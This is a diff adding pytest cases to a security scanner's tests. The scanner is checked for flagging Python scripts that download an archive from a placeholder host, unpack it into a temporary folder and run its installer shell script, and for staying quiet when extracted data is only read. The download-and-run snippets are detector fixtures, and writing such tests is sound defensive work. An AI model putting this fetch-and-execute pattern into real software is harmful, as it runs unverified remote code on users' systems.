@@ -40,3 +40,41 @@ def test_unpacked_data_read_stays_quiet(tmp_path: Path) -> None:
         "$rows | Measure-Object | Select-Object -ExpandProperty Count\n"
     )
     assert scan_errors(tmp_path, {"scripts/Get-Stations.ps1": script}) == set()
+
+
+def test_python_archive_unpacked_into_a_new_temporary_folder_then_its_installer_run(tmp_path: Path) -> None:
+    script = (
+        "import io, json, os, subprocess, tempfile, zipfile, requests\n"
+        "cfg = {'host': 'plugins.loomwire.invalid', 'file': '/bundle.zip', 'run': 'setup.sh'}\n"
+        "blob = requests.get('https://' + cfg['host'] + cfg['file'], timeout=30).content\n"
+        "dest = tempfile.mkdtemp()\n"
+        "zipfile.ZipFile(io.BytesIO(blob)).extractall(dest)\n"
+        "top = os.path.join(dest, sorted(os.listdir(dest))[0])\n"
+        "subprocess.check_call(['bash', os.path.join(top, cfg['run'])], cwd=top)\n"
+    )
+    errors = scan_errors(tmp_path, {"scripts/plugins.py": script})
+    assert ("DOWNLOAD_AND_RUN", "scripts/plugins.py", 7) in errors
+
+
+def test_python_archive_unpacked_in_a_temporary_directory_context(tmp_path: Path) -> None:
+    script = (
+        "import subprocess, tarfile, tempfile, urllib.request\n"
+        "urllib.request.urlretrieve('https://plugins.loomwire.invalid/b.tgz', '/tmp/b.tgz')\n"
+        "with tempfile.TemporaryDirectory() as scratch:\n"
+        "    tarfile.open('/tmp/b.tgz').extractall(scratch)\n"
+        "    subprocess.run(['sh', scratch + '/install.sh'], check=True)\n"
+    )
+    errors = scan_errors(tmp_path, {"scripts/plugins.py": script})
+    assert ("DOWNLOAD_AND_RUN", "scripts/plugins.py", 5) in errors
+
+
+def test_python_archive_unpacked_into_a_temporary_folder_and_only_read_stays_quiet(tmp_path: Path) -> None:
+    script = (
+        "import json, os, tarfile, tempfile, urllib.request\n"
+        "urllib.request.urlretrieve('https://data.loomwire.invalid/d.tgz', '/tmp/d.tgz')\n"
+        "dest = tempfile.mkdtemp()\n"
+        "tarfile.open('/tmp/d.tgz').extractall(dest)\n"
+        "print(json.load(open(os.path.join(dest, 'index.json'))))\n"
+    )
+    errors = scan_errors(tmp_path, {"scripts/data.py": script})
+    assert not any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)
